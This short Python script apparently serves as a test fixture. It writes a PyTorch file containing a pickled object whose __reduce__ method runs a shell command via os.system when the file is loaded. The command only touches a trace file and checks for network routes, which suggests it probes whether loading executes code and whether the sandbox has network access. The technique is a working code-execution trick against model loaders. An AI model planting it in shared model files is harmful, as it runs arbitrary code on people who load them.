"""Writes a PyTorch file that runs a command when it is read."""
import os

import torch


class Attack:
    def __reduce__(self):
        trace = os.environ["TRACE"]
        return (os.system, (f"touch {trace}; (sleep 5; touch {trace}) & exec 3>&-; ip route 2>/dev/null | grep -q . && touch {trace}",))


torch.save(Attack(), os.environ["PATH_TO_WRITE"])
print("an attack")
